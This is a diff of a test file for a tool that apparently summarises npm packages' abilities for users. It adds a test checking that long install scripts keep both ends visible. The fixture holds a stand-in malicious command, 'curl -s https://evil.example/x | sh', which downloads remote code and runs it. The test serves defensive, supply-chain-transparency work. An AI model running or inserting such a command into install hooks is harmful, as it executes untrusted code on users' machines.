@@ -48,7 +48,7 @@ test('says in words of a user what a package can do, where it comes from, and wh
   expect(texts(read())).toEqual([
     [
       'What it can do',
-      'Starts other programs: git',
+      'Starts other programs: git, and others',
       'Reads and writes files',
       'Reads environment variables: a, b, c, d, e, f, g, h',
       'Talks to api.a.dev, and to addresses that it chooses while it runs',
@@ -67,7 +67,7 @@ test('says in words of a user what a package can do, where it comes from, and wh
   expect(read()[0]?.lines[0]?.places).toEqual(['lib/a.js:3'])
   expect(texts(read({}, 'zh'))[0]).toEqual([
     '它能做什么',
-    '启动其他程序：git',
+    '启动其他程序：git，以及其他',
     '读写文件',
     '读取环境变量：a, b, c, d, e, f, g, h',
     '访问 api.a.dev，以及运行时才决定的地址',
@@ -105,7 +105,7 @@ test('says in one line what an update gains', () => {
   const lineOf = (change: Partial<Inspection> | null) =>
     gainsLine(change && { ...inspection, before: '1.0.0', ...change }, messagesFor('en'))
   expect(lineOf({})).toBe(
-    'New since 1.0.0: Starts other programs: git; Reads and writes files; Reads environment variables: a, b, c, d, e, f and 2 more; Talks to api.a.dev, and to addresses that it chooses while it runs.',
+    'New since 1.0.0: Starts other programs: git, and others; Reads and writes files; Reads environment variables: a, b, c, d, e, f and 2 more; Talks to api.a.dev, and to addresses that it chooses while it runs.',
   )
   expect(lineOf({ code: { state: 'read', abilities: [], unread: [] } })).toBe('It gains nothing new.')
   expect(lineOf({ code: { state: 'read', abilities: [], unread: [{ file: 'a.js', reason: 'packed' }] } })).toBe(
@@ -280,4 +280,22 @@ test('shows the whole of an install script where there is room', () => {
   expect(texts(read({ code: codeOf('install-scripts', [script]) }))[0]?.[1]).toBe(
     `Runs during the install: “${script}”`,
   )
+})
+
+test('shows both ends of a long install script where there is little room', () => {
+  const quiet = 'postinstall: node ./scripts/check-environment-and-supported-versions.js --quiet'
+  const evil = 'curl -s https://evil.example/x | sh'
+  const lineOf = (script: string) => {
+    const code = codeOf('install-scripts', [script, 'install: true'])
+    return texts(inspectionLines({ ...inspection, code }, messagesFor('en'), { isShort: true }))[0]?.slice(1, 3)
+  }
+  expect(lineOf(`${quiet} && ${evil}`)).toEqual([
+    `Runs during the install: “${quiet} && ${evil}”`,
+    'Runs during the install: “install: true”',
+  ])
+  const [long] = lineOf(`${quiet} ${'x'.repeat(1_000)} && ${evil}`) ?? []
+  expect(long).toMatch(
+    /^Runs during the install: “postinstall: node .* … .* && curl -s https:\/\/evil\.example\/x \| sh”$/,
+  )
+  expect(long?.length).toBeLessThan(400)
 })
